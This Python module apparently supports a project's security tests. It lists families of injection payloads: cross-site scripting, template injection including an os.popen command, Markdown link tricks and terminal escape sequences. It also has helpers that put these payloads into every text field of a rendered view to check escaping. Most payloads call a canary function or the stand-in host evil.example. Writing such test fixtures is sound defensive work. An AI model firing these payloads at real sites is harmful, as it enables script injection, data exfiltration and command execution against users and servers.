"""Texts that attack a page, a forge or a terminal: families of payloads, and a view in which every text is one.

Each payload, if it ran, would call `canary()`, ask something of evil.example, or change the title.
"""

from collections.abc import Iterator
from itertools import cycle
from typing import Any

from iama.publish.wording import View

CALL = "canary()"
EVIL = "https://evil.example"
# what templates compare, link or count with: made by iama or checked by the reader, never a text of the team
STRUCTURE = frozenset(
    "anchor id ref question questionnaire edition language status kind verdict severity value from date day due "
    "key letter instance as_of iama_report level number_of digest".split()
)

HANDLERS = (
    "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerover onbegin onbeforetoggle "
    "onscrollend oncontentvisibilityautostatechange onauxclick onpageshow"
).split()
TAGS = "img svg body video audio details input marquee iframe object embed a button select textarea form".split()
BREAKOUTS = ['"', "'", "`", ">", '">', "'>", "-->", "</title>", "</style>", "</textarea>", "</script>", "]]>", "--!>"]
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&#58;",
    "javascript://https://x%0a",
    "javascript:/*https://*/",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=canary()>",
    "vbscript:",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\",
    "blob:",
    "https:evil.example",
    "https://user@evil.example",
    "https://exa\u200bmple.nl",
    "https://еxample.nl",
)
RAW = (
    "<script>canary()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>canary()</SCRIPT>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\x0c>canary()</script>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary()><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:canary()>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=javascript:parent.canary()></iframe>",
    "<object data=javascript:canary()></object>",
    "<embed src=javascript:canary()>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>x</details>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.gif)}</style>",
    "<div style='background:url(https://evil.example/x.gif)'>x</div>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/x.gif 1x'>",
    "<picture><source srcset=https://evil.example/x.gif><img></picture>",
    "<video poster=https://evil.example/x.gif></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<body background=https://evil.example/x.gif>",
    "<table background=https://evil.example/x.gif>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<!--><script>canary()</script>-->",
    "<!-- --!><script>canary()</script>",
    "<![CDATA[<script>canary()</script>]]>",
    "<?xml version='1.0'?><script>canary()</script>",
    "<xmp><script>canary()</script></xmp>",
    "<plaintext>",
    "<textarea><script>canary()</script>",
    "<script>document.title='taken'</script>",
    "<svg><title><script>canary()</script></title></svg>",
    "<portal src=https://evil.example></portal>",
    "<isindex type=image src=1 onerror=canary()>",
    "<x contenteditable autofocus onfocus=canary() tabindex=1>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "＜script＞canary()＜/script＞",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in range(9) %}canary{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ self }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{ 7*7 }}",
    "{{constructor.constructor('canary()')()}}",
    "%(language)s {0} {language}",
    "{}",
)
MARKDOWN = (
    "![x](https://evil.example/pixel.gif)",
    "![x][r]\n\n[r]: https://evil.example/pixel.gif",
    "[x][r]\n\n[r]: javascript:canary()",
    "<https://evil.example>",
    "<javascript:canary()>",
    "https://evil.example",
    "www.evil.example",
    "[x](<javascript:canary()>)",
    "[x](https://a.example \"' onmouseover='canary()\")",
    "[a](https://a.example)<img src=x onerror=canary()>",
    "[![x](https://evil.example/x.gif)](https://evil.example)",
    "# heading",
    "heading\n=======",
    "| a | b |\n| --- | --- |\n| <script>canary()</script> | c |",
    "a | b | c",
    "```html\n<script>canary()</script>\n```",
    "    <script>canary()</script>",
    "`<script>canary()</script>`",
    "> <script>canary()</script>",
    "- <script>canary()</script>\n  - <img src=x onerror=canary()>",
    "1. ![x](https://evil.example/x.gif)",
    "***",
    "---",
    "<details>\n\n<script>canary()</script>\n\n</details>",
    "</details>",
    "<!-- hidden -->",
    "@everyone @github/team",
    "#1 GH-1 org/repo#1 !1 ~label",
    "$\\href{javascript:canary()}{x}$",
    "$$\\unicode{<img src=1 onerror=canary()>}$$",
    '```mermaid\nclick A "javascript:canary()"\n```',
    "[^1]\n\n[^1]: https://evil.example",
    ":smile: :+1:",
    "~~x~~ ==x== ^x^",
    "[ ] [x]",
    "* [ ] task",
    "Line  \nbreak\\\nbreak",
    "\\<script>canary()\\</script>",
    "[x](https://a.example/?q=<script>canary()</script>)",
    '[x](https://a.example/"onmouseover="canary())',
    "[<script>canary()</script>](https://a.example)",
    "**<script>canary()</script>**",
    "*<img src=x onerror=canary()>*",
    "---\ntitle: taken\n---",
    "[toc]",
    "{:onclick='canary()'}",
    "[x]{onclick=canary()}",
    "::: danger\n:::",
    '<a id="content"></a>',
    "<a name=summary href=https://evil.example>x</a>",
)
TERMINAL = (
    "\x1b[2J",
    "\x1b]0;taken\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;Y2FuYXJ5\x07",
    "\x1b[6n",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "\x9d0;taken\x9c",
    "\rtaken",
    "\x08\x08\x08",
    "\x07",
    "\x00",
    "\x7f",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200f",
    "[bold]x[/bold]",
    "[link=https://evil.example]x[/link]",
    "[red]",
    "[/]",
    "\\[bold]",
    "::error file=x::taken",
    "::set-output name=x::y",
    "##vso[task.setvariable]x",
    "\ufeff",
    "\u2028",
    "e\u0301",
    "\u200b",
)


def _families() -> Iterator[str]:
    """Yield every payload, of those that combine two words each word once."""
    yield from RAW
    yield from TEMPLATES
    yield from MARKDOWN
    yield from TERMINAL
    yield from (_tag(tag, handler) for tag, handler in zip(TAGS, cycle(HANDLERS), strict=False))
    yield from (_broken(out, handler) for out, handler in zip(cycle(BREAKOUTS[:5]), HANDLERS, strict=False))
    yield from (f"{out}<script>canary()</script>" for out in BREAKOUTS)
    yield from (f"{out}><img src=x onerror=canary()>" for out in BREAKOUTS)
    yield from (f"[x]({scheme}{CALL})" for scheme in SCHEMES)
    yield from (f"<a href='{scheme}{CALL}'>x</a>" for scheme in SCHEMES)


def _tag(tag: str, handler: str) -> str:
    return f"<{tag} src=x {handler}=canary()>"


def _broken(out: str, handler: str) -> str:
    return f"{out} {handler}=canary() x={out}"


PAYLOADS = tuple(dict.fromkeys(_families()))
# every word with every other: for tests/heavy
COMBINED = tuple(
    sorted(
        {_tag(tag, handler) for tag in TAGS for handler in HANDLERS}
        | {_broken(out, handler) for out in BREAKOUTS for handler in HANDLERS}
    )
)


def poisoned(value: Any, payload: str, key: str = "") -> Any:
    """Return a view in which every text that is no structure is the payload, wherever it stands."""
    if isinstance(value, dict):
        return {name: poisoned(inner, payload, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner, payload, key) for inner in value]
    return payload if isinstance(value, str) and value and key not in STRUCTURE else value


def places(value: Any, key: str = "") -> int:
    """Return how many texts `poisoned` replaces."""
    if isinstance(value, dict):
        return sum(places(inner, name) for name, inner in value.items())
    if isinstance(value, list):
        return sum(places(inner, key) for inner in value)
    return int(isinstance(value, str) and bool(value) and key not in STRUCTURE)


def poisoned_view(view: View, payload: str) -> View:
    """Return `poisoned(view)` as the view that it still is."""
    changed: View = poisoned(view, payload)
    return changed


def slim(view: View) -> View:
    """Return a view without the questions that the templates treat like those that stay: a page that loads fast."""
    return {**view, "facts": view["facts"][:0], "unanswered": view["unanswered"][:3], "glance": view["glance"][:2]}
